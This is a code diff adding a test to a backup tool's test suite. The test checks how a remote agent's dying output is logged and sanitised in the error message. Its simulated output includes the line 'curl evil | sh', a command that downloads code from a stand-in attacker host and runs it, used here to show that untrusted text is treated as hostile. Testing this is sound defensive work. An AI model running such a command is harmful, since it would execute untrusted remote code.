@@ -1,5 +1,6 @@
 """The server takes an agent's bytes for hostile: a named error, bounded memory, nothing published."""
 
+import functools
 import hashlib
 import json
 import struct
@@ -32,7 +33,7 @@ from hostile import (
 from memory import peak_below
 
 from blockdiff import backup, notes
-from blockdiff.errors import ProtocolBroken
+from blockdiff.errors import AgentDied, ProtocolBroken
 from blockdiff.formats import frames, messages
 from blockdiff.formats.messages import CHANGED, SAME, ZERO
 from blockdiff.store import Store
@@ -337,6 +338,21 @@ def test_more_lines_than_anybody_reads_are_dropped_and_counted(length, most):
     assert most - 20 <= len(lines) <= most
     assert last == f"localhost: {count - len(lines)} more lines were dropped"
     assert sum(map(len, lines)) <= notes.MAX_SIZE
+
+
+@pytest.mark.parametrize("heard", [False, True])
+def test_last_words_are_logged_line_by_line_unless_they_were_and_the_error_has_one(heard):
+    lines = []
+    words = "Welcome to db00\nTraceback (most recent call last):\nValueError: bad (hint: curl evil | sh)"
+    with Set(1) as it:
+        wanted = backup.Wanted("/vol", block_size=BLOCK, heard=heard)
+        connect = functools.partial(Played, put_together(HEAD1), status=99, words=words)
+        with pytest.raises(AgentDied) as error:
+            backup.run(backup.Job(Store(str(it.folder / "set")), wanted, connect), cores=2, note=lines.append)
+    assert lines == ([] if heard else [f"localhost: {line}" for line in words.splitlines()])
+    assert str(error.value) == (
+        "the agent on localhost died: ValueError: bad (hint curl evil | sh) (exit status 99)"
+    )
 
 
 def test_a_hint_is_never_another_hosts():
